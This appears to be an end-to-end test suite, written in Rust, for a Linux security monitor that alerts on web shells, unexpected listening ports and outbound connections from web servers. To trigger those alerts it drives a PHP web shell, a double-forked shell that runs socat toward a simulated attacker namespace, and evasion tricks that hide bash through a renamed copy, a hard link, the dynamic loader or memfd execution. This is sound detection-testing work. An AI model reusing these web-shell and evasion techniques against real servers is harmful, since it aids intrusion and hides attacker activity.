fn assert_no_alert(seen: &[Value], rule: &str, context: &str) {
    let bad: Vec<&Value> = seen
        .iter()
        .filter(|v| is_alert(v, rule) && ours(v))
        .collect();
    assert!(
        bad.is_empty(),
        "no {rule} alert expected {context}, got:\n{bad:#?}"
    );
}

fn ancestry_pids(a: &Value) -> Vec<u32> {
    a["ancestry"]
        .as_array()
        .unwrap_or_else(|| panic!("ancestry is not a list: {a}"))
        .iter()
        .map(|e| {
            e["pid"]
                .as_u64()
                .and_then(|p| u32::try_from(p).ok())
                .unwrap_or_else(|| panic!("bad pid in {e}"))
        })
        .collect()
}

/// The alert record's documented shape: docs/alert.schema.json, plus what the schema cannot say
/// (no kernel drops during a scenario, ancestry up to pid 1).
fn assert_alert_shape(a: &Value) {
    let errors: Vec<String> = schema()
        .iter_errors(a)
        .map(|e| format!("{e} at {}", e.instance_path()))
        .collect();
    assert!(
        errors.is_empty(),
        "alert does not match docs/alert.schema.json: {a}\n{errors:#?}"
    );
    let str_or_null = |v: &Value| v.is_string() || v.is_null();
    let u64_ = |v: &Value| v.is_u64();
    let string = |v: &Value| v.is_string();
    let strings = |v: &Value| v.as_array().is_some_and(|l| l.iter().all(Value::is_string));
    let check = |obj: &Value, key: &str, ok: &dyn Fn(&Value) -> bool| {
        assert!(
            ok(&obj[key]),
            "alert field {key:?} has the wrong type or is missing: {}\nin {a}",
            obj[key]
        );
    };
    assert_eq!(a["type"], "alert");
    check(a, "rule", &string);
    assert!(
        ["unexpected_listen", "webserver_egress", "webserver_shell"]
            .iter()
            .any(|r| a["rule"] == *r),
        "unknown rule in {a}"
    );
    assert!(
        ["INFO", "LOW", "MEDIUM", "HIGH", "CRITICAL"]
            .iter()
            .any(|s| a["severity"] == *s),
        "severity in {a}"
    );
    check(a, "title", &|v| v.as_str().is_some_and(|s| !s.is_empty()));
    check(a, "time", &|v| v.as_str().is_some_and(is_rfc3339_nanos));
    check(a, "host", &string);
    check(a, "dedup", &|v| {
        v.as_str()
            .is_some_and(|s| s.starts_with(&format!("{}:", a["rule"].as_str().unwrap_or(""))))
    });
    check(a, "pre_existing", &Value::is_boolean);
    check(a, "suppressed", &u64_);
    check(a, "events_lost", &u64_);
    assert_eq!(a["events_lost"], 0, "kernel drops during a scenario: {a}");

    let p = &a["process"];
    for key in ["pid", "ppid", "uid", "gid", "cgroup_id"] {
        check(p, key, &u64_);
    }
    check(p, "user", &str_or_null);
    check(p, "comm", &string);
    check(p, "exe", &str_or_null);
    check(p, "argv", &strings);

    let ancestry = a["ancestry"]
        .as_array()
        .unwrap_or_else(|| panic!("ancestry is not a list in {a}"));
    assert!(!ancestry.is_empty(), "empty ancestry in {a}");
    for e in ancestry {
        check(e, "pid", &u64_);
        check(e, "exe", &str_or_null);
        check(e, "comm", &string);
        check(e, "argv", &strings);
    }
    assert!(
        ancestry.len() == ANCESTRY_MAX || ancestry.last().is_some_and(|e| e["pid"] == 1),
        "ancestry must reach pid 1 or its bound: {a}"
    );

    let s = &a["socket"];
    if a["rule"] == "webserver_shell" {
        assert!(s.is_null(), "a shell alert has no socket: {a}");
    } else {
        assert!(
            s["protocol"] == "tcp" || s["protocol"] == "udp",
            "protocol in {a}"
        );
        // A flow's Community ID is the one the daemon's own function gives its 5-tuple (which
        // monitor/tests/community_id_reference.rs checks against Corelight's reference).
        let socket: monitor::record::SocketInfo =
            serde_json::from_value(s.clone()).unwrap_or_else(|e| panic!("socket of {a}: {e}"));
        let expected = monitor::enrich::community_id::of(0, &socket);
        assert_eq!(
            a.get("community_id").and_then(Value::as_str),
            expected.as_deref(),
            "community_id of {a}"
        );
        assert!(
            s["family"] == "ipv4" || s["family"] == "ipv6",
            "family in {a}"
        );
        let endpoint = |e: &Value| e["ip"].is_string() && e["port"].is_u64();
        assert!(endpoint(&s["local"]), "socket.local in {a}");
        if a["rule"] == "unexpected_listen" {
            assert!(s["remote"].is_null(), "a listener has no remote: {a}");
        } else {
            assert!(endpoint(&s["remote"]), "socket.remote in {a}");
        }
    }
}

fn schema() -> jsonschema::Validator {
    let text = include_str!("../../docs/alert.schema.json");
    let schema: Value = serde_json::from_str(text).expect("docs/alert.schema.json is JSON");
    jsonschema::options()
        .should_validate_formats(true)
        .build(&schema)
        .expect("docs/alert.schema.json is a schema")
}

/// `2026-11-23T05:00:00.123456789Z`.
fn is_rfc3339_nanos(s: &str) -> bool {
    let b = s.as_bytes();
    b.len() == 30
        && b[4] == b'-'
        && b[10] == b'T'
        && b[19] == b'.'
        && b[29] == b'Z'
        && b.iter()
            .enumerate()
            .all(|(i, c)| [4, 7, 10, 13, 16, 19, 29].contains(&i) || c.is_ascii_digit())
}

fn assert_listen_alert(a: &Value, owner: &Running, ip: &str, port: u16, pre_existing: bool) {
    assert_alert_shape(a);
    assert_eq!(a["severity"], "HIGH");
    assert_eq!(a["title"], format!("Unexpected Port Opened: {port}"));
    assert_eq!(
        a["dedup"],
        format!("unexpected_listen:{}:{port}", exe_of("socat"))
    );
    assert_eq!(a["event"], "listen");
    assert_eq!(a["pre_existing"], pre_existing);
    assert_eq!(a["process"]["pid"], owner.pid());
    assert_eq!(a["process"]["exe"], exe_of("socat"));
    assert_eq!(a["process"]["argv"], json!(owner.argv));
    assert_eq!(a["process"]["uid"], 0);
    assert_eq!(a["process"]["user"], "root");
    let family = if ip.contains(':') { "ipv6" } else { "ipv4" };
    assert_eq!(
        a["socket"],
        json!({"protocol": "tcp", "family": family, "local": {"ip": ip, "port": port}, "remote": null})
    );
}

/// A `webserver_shell` alert for `sh -c <cmd>` run by the php-fpm pool worker.
fn assert_shell_alert(a: &Value, fpm: &PhpFpm, cmd: &str) {
    assert_alert_shape(a);
    let sh = exe_of("sh");
    let fpm_exe = fpm.exe.as_str();
    let fpm_comm = fpm.comm();
    assert_eq!(a["severity"], "HIGH");
    assert_eq!(
        a["title"],
        format!("Shell spawned by web server: {sh} (parent {fpm_comm})")
    );
    // The key names the whole command line: another command is another alert.
    let argv = serde_json::to_string(&a["process"]["argv"]).expect("argv");
    assert_eq!(a["dedup"], format!("webserver_shell:{fpm_exe}:{sh}:{argv}"));
    assert_eq!(a["shell_match"], "path");
    assert_eq!(a["web_server_via"], "lineage");
    assert!(is_incident(&a["incident"]), "{a}");
    assert_eq!(a["event"], "exec");
    assert_eq!(a["filename"], "/bin/sh");
    assert_eq!(a["pre_existing"], false);
    assert_eq!(a["socket"], Value::Null);
    assert_eq!(a["process"]["exe"], sh);
    assert_sh_c_argv(&a["process"]["argv"], cmd);
    assert_eq!(a["process"]["ppid"], fpm.worker);
    assert_eq!(a["process"]["uid"], www_data_uid());
    assert_eq!(a["process"]["user"], "www-data");
    assert_eq!(ancestry_pids(a)[..2], [fpm.worker, fpm.master]);
    assert_eq!(a["ancestry"][0]["exe"], fpm_exe);
    assert_eq!(a["ancestry"][0]["comm"], fpm_comm);
    assert_eq!(a["ancestry"][1]["exe"], fpm_exe);
}

/// php's `system()` goes through libc's `popen`: `sh -c CMD`, or `sh -c -- CMD` with the glibc
/// releases that added the `--` guard against commands starting with '-'.
fn assert_sh_c_argv(argv: &Value, cmd: &str) {
    assert!(
        *argv == json!(["sh", "-c", cmd]) || *argv == json!(["sh", "-c", "--", cmd]),
        "expected sh -c [--] {cmd:?}, got {argv}"
    );
}

// ---------------------------------------------------------------------------------------------
// Programs under test.
// ---------------------------------------------------------------------------------------------

/// A started program in its own process group; dropping it stops the whole group (nginx and
/// php-fpm workers, the shells and socat a web shell started).
struct Running {
    child: Child,
    argv: Vec<String>,
    what: String,
}

impl Running {
    fn spawn(scratch: &Scratch, what: &str, cmd: &mut Command) -> Self {
        let log = fs::File::create(scratch.path(&format!("{what}.log"))).expect("log file");
        let argv = std::iter::once(cmd.get_program())
            .chain(cmd.get_args())
            .map(|a| a.to_string_lossy().into_owned())
            .collect();
        let child = cmd
            .process_group(0)
            .stdin(Stdio::null())
            .stdout(log.try_clone().expect("log file"))
            .stderr(log)
            .spawn()
            .unwrap_or_else(|e| {
                panic!(
                    "cannot start {what} ({}): {e}",
                    cmd.get_program().to_string_lossy()
                )
            });
        Running {
            child,
            argv,
            what: what.into(),
        }
    }

    fn pid(&self) -> u32 {
        self.child.id()
    }

    /// Panics (with the program's log) when it has already exited.
    fn assert_alive(&mut self, scratch: &Scratch) {
        if let Ok(Some(status)) = self.child.try_wait() {
            let log =
                fs::read_to_string(scratch.path(&format!("{}.log", self.what))).unwrap_or_default();
            panic!("{} exited with {status}:\n{log}", self.what);
        }
    }
}

impl Drop for Running {
    fn drop(&mut self) {
        let pgid = self.child.id() as libc::pid_t;
        // SIGTERM lets nginx and php-fpm stop their workers; then SIGKILL whatever is left in the
        // group. The leader is reaped last, so its pid (= the group id) cannot be reused meanwhile.
        unsafe { libc::kill(-pgid, libc::SIGTERM) };
        let deadline = Instant::now() + Duration::from_secs(5);
        while Instant::now() < deadline && !exited_unreaped(pgid) {
            thread::sleep(Duration::from_millis(20));
        }
        unsafe { libc::kill(-pgid, libc::SIGKILL) };
        let _ = self.child.wait();
    }
}

/// Has `pid` (our child) exited? Leaves it a zombie (`WNOWAIT`).
fn exited_unreaped(pid: libc::pid_t) -> bool {
    let mut info: libc::siginfo_t = unsafe { std::mem::zeroed() };
    let r = unsafe {
        libc::waitid(
            libc::P_PID,
            pid as libc::id_t,
            &raw mut info,
            libc::WEXITED | libc::WNOHANG | libc::WNOWAIT,
        )
    };
    r == 0 && unsafe { info.si_pid() } == pid
}

/// `socat -u <listen-address> STDOUT` with stdout into the scratch log.
fn socat_listener(scratch: &Scratch, what: &str, listen: &str) -> Running {
    Running::spawn(
        scratch,
        what,
        Command::new("socat").args(["-u", listen, "STDOUT"]),
    )
}

struct Nginx {
    _running: Running,
    /// The command line nginx was started with.
    argv: Vec<String>,
    master: u32,
    worker: u32,
}

impl Nginx {
    /// Starts nginx (one worker) on `listen`, proxying `/proxy/` to `upstream` and `/allowed/` to
    /// 127.0.0.1:8080, and `*.php` to the php-fpm socket in the scratch dir.
    fn start(scratch: &Scratch, listen: &str, upstream: &str) -> Self {
        scratch.install_www();
        let conf = scratch.fill(
            "nginx.conf",
            &[("@LISTEN@", listen), ("@UPSTREAM@", upstream)],
        );
        let error_log = scratch.path("error.log");
        let mut running = Running::spawn(
            scratch,
            "nginx",
            Command::new(exe_of("nginx")).args(["-c", path_str(&conf), "-e", path_str(&error_log)]),
        );
        let master = running.pid();
        let port: u16 = listen
            .rsplit(':')
            .next()
            .and_then(|p| p.parse().ok())
            .expect("listen port");
        // Workers inherit the listening socket: the master must be among its owners.
        let owners = wait_listening(scratch, &mut running, port);
        assert!(
            owners.contains(&master),
            "nginx master {master} does not hold {listen}: {owners:?}"
        );
        let worker = wait_single_child(master, "nginx worker");
        running.assert_alive(scratch);
        Nginx {
            argv: running.argv.clone(),
            _running: running,
            master,
            worker,
        }
    }
}

struct PhpFpm {
    _running: Running,
    exe: String,
    master: u32,
    worker: u32,
}

impl PhpFpm {
    /// Starts php-fpm in the foreground with one static pool worker on a unix socket.
    fn start(scratch: &Scratch) -> Self {
        scratch.install_www();
        let conf = scratch.fill("php-fpm.conf", &[]);
        let exe = php_fpm_exe();
        let mut running = Running::spawn(
            scratch,
            "php-fpm",
            Command::new(&exe).args(["--nodaemonize", "--fpm-config", path_str(&conf)]),
        );
        let master = running.pid();
        let sock = scratch.path("php-fpm.sock");
        poll(&format!("{} to appear", sock.display()), || {
            sock.exists().then_some(())
        });
        let worker = wait_single_child(master, "php-fpm pool worker");
        running.assert_alive(scratch);
        PhpFpm {
            _running: running,
            exe: path_str(&canonical(&exe)).to_owned(),
            master,
            worker,
        }
    }

    /// The name the kernel gives the process (`php-fpm8.2`): the executable's basename.
    fn comm(&self) -> &str {
        Path::new(&self.exe)
            .file_name()
            .and_then(|n| n.to_str())
            .expect("php-fpm name")
    }
}

/// A network namespace for this test, with its loopback up; deleted on drop.
struct NetNs {
    name: String,
}

impl NetNs {
    fn create(name: &str) -> Self {
        // A namespace left behind by an aborted run would make `add` fail.
        let _ = Command::new("ip")
            .args(["netns", "del", name])
            .stderr(Stdio::null())
            .status();
        run_ok(Command::new("ip").args(["netns", "add", name]));
        let ns = NetNs { name: name.into() };
        run_ok(Command::new("ip").args(["-n", name, "link", "set", "lo", "up"]));
        ns
    }
}

impl Drop for NetNs {
    fn drop(&mut self) {
        let _ = Command::new("ip")
            .args(["netns", "del", &self.name])
            .status();
    }
}

/// Compiles `scenarios/<name>.c` into the scratch dir.
fn build_c_program(scratch: &Scratch, name: &str) -> PathBuf {
    let out = scratch.path(name);
    let src = Path::new(SCENARIOS).join(format!("{name}.c"));
    run_ok(Command::new("cc").args([
        "-O2",
        "-Wall",
        "-Werror",
        "-o",
        path_str(&out),
        path_str(&src),
    ]));
    out
}

// ---------------------------------------------------------------------------------------------
// Environment helpers.
// ---------------------------------------------------------------------------------------------

/// A scratch directory readable by www-data (nginx and php-fpm workers), removed on drop.
///
/// It also holds a machine-wide lock for the scenario's whole run: the scenarios use fixed ports
/// and two runs of this suite at once (a developer's and `cargo xtask test`) would collide.
struct Scratch(
    PathBuf,
    #[expect(dead_code, reason = "held for its flock")] fs::File,
);

impl Scratch {
    fn new(name: &str) -> Self {
        let lock_path = std::env::temp_dir().join("monitor-e2e-detections.lock");
        let lock =
            fs::File::create(&lock_path).unwrap_or_else(|e| panic!("{}: {e}", lock_path.display()));
        // Blocks until another run's scenario is over; released when the file is closed.
        let r = unsafe { libc::flock(std::os::fd::AsRawFd::as_raw_fd(&lock), libc::LOCK_EX) };
        assert_eq!(
            r,
            0,
            "flock {}: {}",
            lock_path.display(),
            std::io::Error::last_os_error()
        );
        let dir = std::env::temp_dir().join(format!("monitor-e2e-{name}-{}", std::process::id()));
        let _ = fs::remove_dir_all(&dir);
        fs::create_dir_all(&dir).expect("create scratch dir");
        fs::set_permissions(&dir, fs::Permissions::from_mode(0o755)).expect("chmod scratch dir");
        Scratch(dir, lock)
    }

    fn path(&self, rel: &str) -> PathBuf {
        self.0.join(rel)
    }

    fn write(&self, rel: &str, contents: &str) -> PathBuf {
        let p = self.path(rel);
        fs::write(&p, contents).unwrap_or_else(|e| panic!("write {}: {e}", p.display()));
        fs::set_permissions(&p, fs::Permissions::from_mode(0o644)).expect("chmod");
        p
    }

    /// Writes `scenarios/<name>.in` with `@DIR@` and `replacements` filled in.
    fn fill(&self, name: &str, replacements: &[(&str, &str)]) -> PathBuf {
        let template = Path::new(SCENARIOS).join(format!("{name}.in"));
        let mut text = fs::read_to_string(&template)
            .unwrap_or_else(|e| panic!("read {}: {e}", template.display()));
        text = text.replace("@DIR@", path_str(&self.0));
        for (from, to) in replacements {
            text = text.replace(from, to);
        }
        assert!(
            !text.contains('@'),
            "unfilled placeholder in {name}:\n{text}"
        );
        self.write(name, &text)
    }

    /// The document root with the PHP scripts (idempotent: nginx and php-fpm both call it).
    fn install_www(&self) {
        let www = self.path("www");
        fs::create_dir_all(&www).expect("mkdir www");
        fs::set_permissions(&www, fs::Permissions::from_mode(0o755)).expect("chmod www");
        for script in ["shell.php", "egress.php", "attack.php"] {
            let src = Path::new(SCENARIOS).join(script);
            let text =
                fs::read_to_string(&src).unwrap_or_else(|e| panic!("read {}: {e}", src.display()));
            self.write(&format!("www/{script}"), &text);
        }
    }
}

impl Drop for Scratch {
    fn drop(&mut self) {
        let _ = fs::remove_dir_all(&self.0);
    }
}

/// The egress test policy: the default excluded networks minus 127.0.0.0/8, so that a connect to
/// an odd loopback port counts as egress.
fn egress_test_policy(scratch: &Scratch) -> PathBuf {
    policy_in_scope(scratch, "127.0.0.0/8", "loopback is not excluded")
}

/// The default policy with `network` no longer in `webserver_egress`'s excluded networks,
/// validated with `monitor check-policy`.
fn policy_in_scope(scratch: &Scratch, network: &str, why: &str) -> PathBuf {
    let default: toml::Table = DEFAULT_POLICY.parse().expect("default policy is TOML");
    let excluded = default["rules"]["webserver_egress"]["excluded_networks"]
        .as_array()
        .expect("rules.webserver_egress.excluded_networks in the default policy");
    let kept: Vec<toml::Value> = excluded
        .iter()
        .filter(|n| n.as_str() != Some(network))
        .cloned()
        .collect();
    assert_eq!(
        kept.len() + 1,
        excluded.len(),
        "the default policy must exclude {network}"
    );
    let mut egress = toml::Table::new();
    egress.insert("excluded_networks".into(), toml::Value::Array(kept));
    let mut rules = toml::Table::new();
    rules.insert("webserver_egress".into(), toml::Value::Table(egress));
    let mut policy = toml::Table::new();
    policy.insert("rules".into(), toml::Value::Table(rules));
    let text = format!("# Written by tests/tests/detections.rs: {why}.\n{policy}");
    let path = scratch.write("policy.toml", &text);
    let out = Command::new(monitor_bin())
        .arg("check-policy")
        .arg(&path)
        .output()
        .expect("run monitor check-policy");
    assert!(
        out.status.success(),
        "monitor check-policy rejected the test policy:\n{text}\n{}",
        String::from_utf8_lossy(&out.stderr)
    );
    path
}

/// Polls `f` every 20 ms for up to 10 s.
fn poll<T>(what: &str, mut f: impl FnMut() -> Option<T>) -> T {
    let deadline = Instant::now() + Duration::from_secs(10);
    loop {
        if let Some(v) = f() {
            return v;
        }
        assert!(Instant::now() < deadline, "timed out waiting for {what}");
        thread::sleep(Duration::from_millis(20));
    }
}

/// Waits until a socket of this host's namespace listens on `port` and returns its owners (read
/// with the daemon's own start-up scan). Panics with the program's log if `program` exits first
/// (a port already taken, a bad config).
fn wait_listening(scratch: &Scratch, program: &mut Running, port: u16) -> Vec<u32> {
    let host_ns = netns_of("self");
    wait_for_scan(scratch, program, |l| {
        l.local.port() == port && l.netns == host_ns && !l.owners.is_empty()
    })
    .owners
}

fn wait_for_scan(
    scratch: &Scratch,
    program: &mut Running,
    pred: impl Fn(&monitor::baseline::ListeningSocket) -> bool,
) -> monitor::baseline::ListeningSocket {
    poll(&format!("{} to listen", program.what), || {
        program.assert_alive(scratch);
        scan_listeners()
            .expect("scan /proc")
            .into_iter()
            .find(|l| pred(l))
    })
}

fn netns_of(pid: &str) -> u64 {
    let link = fs::read_link(format!("/proc/{pid}/ns/net")).expect("netns link");
    link.to_str()
        .and_then(|s| s.strip_prefix("net:["))
        .and_then(|s| s.strip_suffix(']'))
        .and_then(|s| s.parse().ok())
        .unwrap_or_else(|| panic!("odd netns link {}", link.display()))
}

/// Waits for `parent` to have exactly one child (nginx's one worker, php-fpm's static pool).
fn wait_single_child(parent: u32, what: &str) -> u32 {
    poll(what, || match children_of(parent)[..] {
        [only] => Some(only),
        _ => None,
    })
}

fn children_of(parent: u32) -> Vec<u32> {
    let mut out = Vec::new();
    for entry in fs::read_dir("/proc").expect("read /proc").flatten() {
        let Some(pid) = entry
            .file_name()
            .to_str()
            .and_then(|n| n.parse::<u32>().ok())
        else {
            continue;
        };
        let Ok(stat) = fs::read_to_string(entry.path().join("stat")) else {
            continue;
        };
        // `pid (comm) state ppid ...`: comm may contain spaces and parentheses.
        let ppid = stat
            .rsplit_once(") ")
            .and_then(|(_, rest)| rest.split(' ').nth(1)?.parse::<u32>().ok());
        if ppid == Some(parent) {
            out.push(pid);
        }
    }
    out
}

/// GET over a plain TCP connection to 127.0.0.1:`port`; returns the whole response.
fn http_get(port: u16, path: &str) -> String {
    let mut s = TcpStream::connect(("127.0.0.1", port))
        .unwrap_or_else(|e| panic!("connect 127.0.0.1:{port}: {e}"));
    s.set_read_timeout(Some(Duration::from_secs(10)))
        .expect("timeout");
    write!(s, "GET {path} HTTP/1.0\r\nHost: localhost\r\n\r\n").expect("send request");
    let mut buf = String::new();
    s.read_to_string(&mut buf)
        .unwrap_or_else(|e| panic!("read response of {path}: {e}"));
    assert!(buf.starts_with("HTTP/1.1 200"), "GET {path}: {buf}");
    buf
}

/// The canonical executable path of `name` on PATH (what `/proc/<pid>/exe` shows).
fn exe_of(name: &str) -> String {
    let path = std::env::var_os("PATH").unwrap_or_default();
    std::env::split_paths(&path)
        .chain([PathBuf::from("/usr/sbin"), PathBuf::from("/usr/bin")])
        .map(|d| d.join(name))
        .find(|p| p.is_file())
        .map_or_else(
            || panic!("{name} is not installed (cargo xtask test installs it)"),
            |p| path_str(&canonical(&p)).to_owned(),
        )
}

/// Debian names the binary after the PHP version: /usr/sbin/php-fpm8.2.
fn php_fpm_exe() -> PathBuf {
    let mut found: Vec<PathBuf> = fs::read_dir("/usr/sbin")
        .expect("read /usr/sbin")
        .flatten()
        .map(|e| e.path())
        .filter(|p| {
            p.file_name()
                .and_then(|n| n.to_str())
                .is_some_and(|n| n.starts_with("php-fpm"))
        })
        .collect();
    found.sort();
    found
        .pop()
        .expect("php-fpm is not installed (cargo xtask test installs it)")
}

fn www_data_uid() -> u32 {
    let passwd = fs::read_to_string("/etc/passwd").expect("read /etc/passwd");
    passwd
        .lines()
        .find_map(|l| l.strip_prefix("www-data:")?.split(':').nth(1)?.parse().ok())
        .expect("www-data user")
}

fn canonical(p: &Path) -> PathBuf {
    fs::canonicalize(p).unwrap_or_else(|e| panic!("canonicalize {}: {e}", p.display()))
}

fn path_str(p: &Path) -> &str {
    p.to_str()
        .unwrap_or_else(|| panic!("non-UTF-8 path {}", p.display()))
}

fn run_ok(cmd: &mut Command) {
    let out = cmd
        .output()
        .unwrap_or_else(|e| panic!("cannot run {cmd:?}: {e}"));
    assert!(
        out.status.success(),
        "{cmd:?} failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
}

// ---------------------------------------------------------------------------------------------
// Lineage that `ancestry` alone loses: the nearest web server is tracked per process.
// ---------------------------------------------------------------------------------------------

/// A web shell that double-forks: the command's shell starts a background subshell and exits, so
/// the subshell is reparented before it execs sh (whose exec then reports init as the parent),
/// and that sh runs socat, which connects out. The process table keeps the fork-time parent and
/// the nearest web server (the php-fpm worker) through the reparenting.
#[test]
fn double_forked_web_shell_keeps_its_web_server() {
    if !privileged("double_forked_web_shell_keeps_its_web_server") {
        return;
    }
    let scratch = Scratch::new("dfork");
    let policy = egress_test_policy(&scratch);
    let mut target = socat_listener(
        &scratch,
        "egress-target",
        "TCP4-LISTEN:24133,bind=127.0.0.1,reuseaddr,fork",
    );
    assert_eq!(
        wait_listening(&scratch, &mut target, 24133),
        vec![target.pid()]
    );

    let mut m = Monitor::start(&["--events", "--policy", path_str(&policy)]);
    let fpm = PhpFpm::start(&scratch);
    let _nginx = Nginx::start(&scratch, "127.0.0.1:24130", "127.0.0.1:9");
    // `( ... ) &` forks the subshell and the command's sh exits at once; after a second the
    // orphaned subshell execs sh, whose trailing `:` keeps socat its child.
    scratch.write(
        "www/dfork.php",
        "<?php\n$port = intval($_GET[\"port\"] ?? \"0\");\n\
         system(\"( sleep 1; exec sh -c 'socat -u OPEN:/dev/null TCP4:127.0.0.1:$port,connect-timeout=2; :' ) >/dev/null 2>&1 &\");\n\
         echo \"started\";\n",
    );
    let body = http_get(24130, "/dfork.php?port=24133");
    assert!(body.contains("started"), "dfork.php failed: {body}");

    let a = m.wait_for(
        "webserver_egress from a double-forked web shell",
        ALERT_TIMEOUT,
        |v| is_alert(v, "webserver_egress") && v["socket"]["remote"]["port"] == 24133,
    );
    assert_alert_shape(&a);
    let socat = exe_of("socat");
    assert_eq!(a["process"]["exe"], socat);
    assert_eq!(a["web_server"]["pid"], fpm.worker);
    assert_eq!(a["web_server"]["exe"], fpm.exe);
    assert_eq!(
        a["title"],
        format!(
            "Web server egress: {socat} -> 127.0.0.1:24133 (descendant of {})",
            fpm.comm()
        )
    );
    assert_eq!(
        a["dedup"],
        format!("webserver_egress:{}:{socat}:127.0.0.1:24133", fpm.exe)
    );
    // The orphan's exec: its header names init (or a subreaper) as the parent, its ancestry
    // still runs through the exited shell to the php-fpm worker.
    let exec = m
        .seen
        .iter()
        .find(|v| {
            is_event(v, "exec")
                && v["process"]["argv"][0] == "sh"
                && v["process"]["argv"][2]
                    .as_str()
                    .is_some_and(|c| c.contains("24133") && !c.starts_with('('))
        })
        .unwrap_or_else(|| panic!("no exec event of the orphaned sh in {:#?}", m.seen))
        .clone();
    let pids = ancestry_pids(&exec);
    assert!(
        pids.contains(&fpm.worker),
        "ancestry {pids:?} of the orphan's exec lost the php-fpm worker {}",
        fpm.worker
    );
    // ppid is the fork-time parent, like ancestry[0], though the kernel now reports init.
    assert_eq!(
        exec["process"]["ppid"], pids[0],
        "ppid and ancestry[0] agree"
    );
    assert_eq!(exec["web_server"]["pid"], fpm.worker);
    let shell = m
        .seen
        .iter()
        .find(|v| is_alert(v, "webserver_shell") && ours(v))
        .expect("the web shell's sh raised webserver_shell");
    assert_eq!(shell["web_server"]["exe"], fpm.exe);
    m.stop();
}

// ---------------------------------------------------------------------------------------------
// Detection depth (issue 12): shells known by content, lineage an attacker sheds, every command.
// ---------------------------------------------------------------------------------------------

/// The attacker's side: a network namespace reached over a veth pair, `10.213.0.1` here and
/// `10.213.0.2` there (10.0.0.0/8 is not excluded by [`depth_test_policy`]).
struct AttackerNs {
    ns: NetNs,
}

const ATTACKER: &str = "10.213.0.2";

impl AttackerNs {
    fn create() -> Self {
        let ns = NetNs::create("mon-atk");
        let _ = Command::new("ip")
            .args(["link", "del", "mon-atk0"])
            .stderr(Stdio::null())
            .status();
        run_ok(Command::new("ip").args([
            "link", "add", "mon-atk0", "type", "veth", "peer", "name", "mon-atk1",
        ]));
        run_ok(Command::new("ip").args(["link", "set", "mon-atk1", "netns", "mon-atk"]));
        run_ok(Command::new("ip").args(["addr", "add", "10.213.0.1/30", "dev", "mon-atk0"]));
        run_ok(Command::new("ip").args(["link", "set", "mon-atk0", "up"]));
        run_ok(Command::new("ip").args([
            "-n",
            "mon-atk",
            "addr",
            "add",
            "10.213.0.2/30",
            "dev",
            "mon-atk1",
        ]));
        run_ok(Command::new("ip").args(["-n", "mon-atk", "link", "set", "mon-atk1", "up"]));
        AttackerNs { ns }
    }

    /// `socat` listening in the namespace.
    fn listen(&self, scratch: &Scratch, what: &str, address: &str) -> Running {
        Running::spawn(
            scratch,
            what,
            Command::new("ip").args([
                "netns",
                "exec",
                &self.ns.name,
                "socat",
                "-u",
                address,
                "STDOUT",
            ]),
        )
    }
}

impl Drop for AttackerNs {
    fn drop(&mut self) {
        let _ = Command::new("ip")
            .args(["link", "del", "mon-atk0"])
            .status();
    }
}

/// The default policy with 10.0.0.0/8 no longer excluded from egress (the attacker's namespace
/// lives there).
fn depth_test_policy(scratch: &Scratch) -> PathBuf {
    policy_in_scope(scratch, "10.0.0.0/8", "10.0.0.0/8 is not excluded")
}

/// Percent-encodes a query-string value.
fn urlencode(s: &str) -> String {
    s.bytes()
        .map(|b| {
            if b.is_ascii_alphanumeric() || b"-_.~".contains(&b) {
                (b as char).to_string()
            } else {
                format!("%{b:02X}")
            }
        })
        .collect()
}

/// `attack.php?argv=...`: `proc_open()` of `argv`, without a shell.
fn proc_open(argv: &[&str]) -> String {
    let json = serde_json::to_string(argv).expect("json");
    http_get(24130, &format!("/attack.php?argv={}", urlencode(&json)))
}

/// `attack.php?cmd=...`: `system()`, i.e. `sh -c`.
fn web_shell(cmd: &str) -> String {
    http_get(24130, &format!("/attack.php?cmd={}", urlencode(cmd)))
}

fn is_incident(v: &Value) -> bool {
    v.as_str()
        .is_some_and(|s| s.len() == 16 && s.chars().all(|c| c.is_ascii_hexdigit()))
}

#[test]
fn web_shells_known_by_content_inode_loader_and_memfd() {
    if !privileged("web_shells_known_by_content_inode_loader_and_memfd") {
        return;
    }
    let scratch = Scratch::new("identity");
    let bash = exe_of("bash");
    // A renamed copy (another inode, same content) and a hard link (the same inode).
    let copy = scratch.path(".x");
    fs::copy(&bash, &copy).expect("copy bash");
    fs::set_permissions(&copy, fs::Permissions::from_mode(0o755)).expect("chmod");
    let link = scratch.path("hl");
    fs::hard_link(&bash, &link).expect("hard link bash (same filesystem as /tmp)");

    let mut m = Monitor::start(&["--events"]);
    let fpm = PhpFpm::start(&scratch);
    let _nginx = Nginx::start(&scratch, "127.0.0.1:24130", "127.0.0.1:9");
    let loader = path_str(&canonical(Path::new("/lib64/ld-linux-x86-64.so.2"))).to_owned();
    let memfd = "import os; f = os.memfd_create('x'); \
                 os.write(f, open('/usr/bin/bash', 'rb').read()); \
                 os.execv('/proc/self/fd/%d' % f, ['bash', '-c', 'id; sleep 0.5'])";
    let cases: [(&str, Vec<&str>, &str); 4] = [
        (
            "content",
            vec![path_str(&copy), "-c", "id; true"],
            path_str(&copy),
        ),
        (
            "inode",
            vec![path_str(&link), "-c", "id; true"],
            path_str(&link),
        ),
        (
            "loader",
            vec!["/lib64/ld-linux-x86-64.so.2", "/bin/bash", "-c", "id; true"],
            loader.as_str(),
        ),
        (
            "content",
            vec!["/usr/bin/python3", "-c", memfd],
            "/memfd:x (deleted)",
        ),
    ];
    let mut incidents = Vec::new();
    for (matched, argv, exe) in cases {
        let body = proc_open(&argv);
        assert!(body.contains("uid=33(www-data)"), "{argv:?}: {body}");
        let a = m.wait_for(
            &format!("webserver_shell for {argv:?}"),
            ALERT_TIMEOUT,
            |v| is_alert(v, "webserver_shell") && ours(v) && v["process"]["exe"] == exe,
        );
        assert_alert_shape(&a);
        assert_eq!(a["shell_match"], matched, "{a}");
        assert_eq!(a["web_server_via"], "lineage");
        assert_eq!(a["web_server"]["pid"], fpm.worker);
        assert_eq!(a["process"]["ppid"], a["ancestry"][0]["pid"]);
        if matched == "loader" {
            assert_eq!(a["program"]["loaded"], "/bin/bash");
            assert_eq!(
                a["title"],
                format!(
                    "Shell spawned by web server: /bin/bash via {loader} (parent {})",
                    fpm.comm()
                )
            );
        } else {
            assert_eq!(a["program"]["shell"], matched);
            assert_eq!(a["program"]["same_as"], bash);
            assert_eq!(
                a["title"],
                format!(
                    "Shell spawned by web server: {exe} = {bash} (parent {})",
                    fpm.comm()
                )
            );
        }
        assert!(is_incident(&a["incident"]), "{a}");
        incidents.push(a["incident"].clone());
    }
    incidents.dedup();
